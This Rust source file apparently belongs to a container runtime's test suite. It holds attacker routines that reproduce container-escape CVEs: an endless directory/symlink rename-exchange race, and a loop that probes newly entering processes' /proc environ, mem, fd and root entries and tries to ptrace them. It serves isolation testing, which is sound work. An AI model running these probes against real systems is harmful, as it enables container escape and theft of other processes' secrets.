//! Attackers that go on and on: one that swaps a directory and a symlink, and one that traces whoever comes in.

use std::collections::BTreeSet;
use std::io::Result;
use std::time::{Duration, Instant};

use rustix::fs::{CWD, RenameFlags, renameat_with};

/// Swaps two names for ever (CVE-2021-30465, CVE-2024-45310). Says so when it is at it.
pub(crate) fn swap(one: &str, other: &str) -> Result<()> {
    for round in 0_u64.. {
        renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE)?;
        if round == 100 {
            println!("up");
        }
    }
    Ok(())
}

/// What whoever watches waits for: a file in its root, as it may take the others any time to come and go.
const ENOUGH: &str = "/enough";

/// Whether it goes on watching: nobody has said that it is enough, and nobody has forgotten to.
pub(crate) fn watches(since: Instant) -> bool {
    since.elapsed() < Duration::from_mins(2) && !std::fs::exists(ENOUGH).is_ok_and(|enough| enough)
}

/// CVE-2016-9962: until it is [`ENOUGH`], traces every process that appears and is none of the container's own programs, and
/// looks into its directory in `/proc`. Says at the end how many there were, and of each that it got hold of what.
pub(crate) fn trace_newcomers(own: &str) -> Result<()> {
    println!("up");
    let begun = Instant::now();
    let (mut seen, mut got) = (BTreeSet::new(), BTreeSet::new());
    while watches(begun) {
        for entry in std::fs::read_dir("/proc")?.flatten() {
            let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else { continue };
            if !is_stranger(pid, own) {
                continue;
            }
            seen.insert(pid);
            for name in ["root/etc/debian_version", "cwd/etc/debian_version", "environ", "mem"] {
                let opened = std::fs::File::open(format!("/proc/{pid}/{name}")).is_ok();
                if opened && is_stranger(pid, own) {
                    got.insert(name);
                }
            }
            // Their numbers anybody of the same user may learn; what they are is another matter.
            let mut numbers = std::fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
            if numbers.any(|entry| std::fs::metadata(entry.path()).is_ok()) && is_stranger(pid, own) {
                got.insert("fd");
            }
            if trace(pid) && is_stranger(pid, own) {
                got.insert("trace");
            }
        }
    }
    println!("seen {} got {got:?}", seen.len());
    Ok(())
}

/// Not one of the programs of the container: their names, with commas between them.
fn is_stranger(pid: i32, own: &str) -> bool {
    let name = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
    !name.is_empty() && !own.split(',').any(|program| program == name.trim_end())
}

/// Whether it can be traced. It is let go at once, with the thread that traced it: one that stayed traced would not end
/// for whoever waits for it.
#[expect(unsafe_code, reason = "nobody offers a safe ptrace(2)")]
fn trace(pid: i32) -> bool {
    // SAFETY: it takes numbers and null pointers, and writes nothing to our memory.
    let seize = move || unsafe {
        libc::ptrace(libc::PTRACE_SEIZE, pid, std::ptr::null_mut::<u8>(), std::ptr::null_mut::<u8>()) == 0
    };
    std::thread::spawn(seize).join().is_ok_and(|traced| traced)
}
